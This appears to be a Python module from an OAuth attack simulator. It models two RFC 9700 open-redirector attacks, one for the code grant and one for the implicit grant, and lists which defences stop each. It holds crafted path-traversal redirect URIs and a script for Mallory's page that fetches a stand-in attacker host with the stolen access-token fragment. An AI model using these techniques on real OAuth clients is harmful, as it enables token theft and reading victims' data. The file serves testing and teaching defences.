"""The client sends browsers on to wherever an address says: two ways to a token (RFC 9700 §4.11.1)."""

from __future__ import annotations

from mockserver.resource_owner.script import Window
from oauthsim.attacker import SITE
from oauthsim.attacks.crafted import KITTENS, call_calendar, lure, read_calendar, redeem, request
from oauthsim.attacks.goals import reads_alices_data
from oauthsim.attacks.registry import attack
from oauthsim.clients import BROWSER_APP
from oauthsim.scenarios import Step
from oauthsim.scenarios.authorization_code import connect
from oauthsim.scenarios.messages import from_to, redirect_with_fragment, request_to
from oauthsim.world import APP, World

TRAP = f"{SITE}/trap"
OVER_THE_CLIENT = f"{APP}/callback/../out?to={TRAP}"
"""It starts with the registered https://app.example/callback. A browser climbs: it asks for /out?to=…"""

OVER_THE_PAGE = f"https://{BROWSER_APP}/callback/../out?to={TRAP}"


@attack(
    "open-redirector-code",
    title="Open redirector of the client, code grant",
    spec="RFC 9700 §4.11.1",
    catalogue=("ATT-04",),
    goal=reads_alices_data,
    given=("redirect-uri-is-registered", "pkce-is-sent"),
    redirect_uri_comparison="prefix",
    stopped_by=(
        "redirect-uri-matches-exactly",
        "redirects-stay-on-our-own-site",
        "client-secret-is-right",
        "client-uses-its-registered-method",
    ),
    does_not_help=(
        "pkce-is-required",
        "code-verifier-fits-the-challenge",
        "redirect-uri-is-that-of-the-request",
        "pages-send-no-referrer",
    ),
    steps=(
        Step("Alice uses a client with a page that sends browsers on", request_to("/")),
        Step("She follows a link of Mallory's: a request in the name of this client", request_to("/kittens")),
        Step("The redirect URI climbs to that page", request_to("/out")),
        Step("It sends the browser on, and the code with it", request_to("/trap")),
        Step(
            "Mallory redeems the code: nobody asks for the client's secret",
            from_to("attacker", "authorization_server"),
        ),
        Step("With what she gets she reads Alice's calendar", from_to("attacker", "calendar")),
    ),
)
def open_redirector_code(world: World) -> None:
    """A prefix lets the code go to any page of the client, and one of them hands it on to Mallory."""
    world.mallory.serve("/trap", KITTENS)
    connect(world, "Calendar")
    lure(world, request(OVER_THE_CLIENT))
    read_calendar(world, redeem(world, OVER_THE_CLIENT))


@attack(
    "open-redirector-fragment",
    title="Open redirector of the client, implicit grant",
    spec="RFC 9700 §4.1.2",
    catalogue=("ATT-03",),
    goal=reads_alices_data,
    given=("redirect-uri-is-registered",),
    redirect_uri_comparison="prefix",
    stopped_by=(
        "redirect-uri-matches-exactly",
        "redirects-stay-on-our-own-site",
        "implicit-grant-is-off",
    ),
    does_not_help=("client-secret-is-right", "pages-send-no-referrer", "redirect-uri-has-no-fragment"),
    steps=(
        Step("Alice follows a link of Mallory's: a request for a token", request_to("/kittens")),
        Step(
            "The token is in the fragment, at a page that sends browsers on",
            redirect_with_fragment("access_token"),
        ),
        Step("It is not sent to that page, but the browser keeps it", request_to("/out")),
        Step("The next redirect takes it on to Mallory's page", request_to("/trap")),
        Step("A script of that page reads it from the address", request_to("/caught")),
        Step("Mallory reads Alice's calendar", from_to("attacker", "calendar")),
    ),
)
def open_redirector_fragment(world: World) -> None:
    """A browser carries the fragment over a redirect, and with it the token from the client to Mallory."""
    world.mallory.serve("/trap", f"{KITTENS}<script src='/kittens.js'></script>")
    assert world.browser_app.host == BROWSER_APP
    lure(world, request(OVER_THE_PAGE, "browser-app", response_type="token"))
    if world.browser.address.startswith(TRAP):
        world.browser.run_script(send_the_fragment)
    call_calendar(world, world.mallory.caught("access_token"))


def send_the_fragment(window: Window) -> None:
    """Script of Mallory's page: what stands behind the `#` is never sent, so send it."""
    window.fetch(f"{SITE}/caught?{window.fragment}")
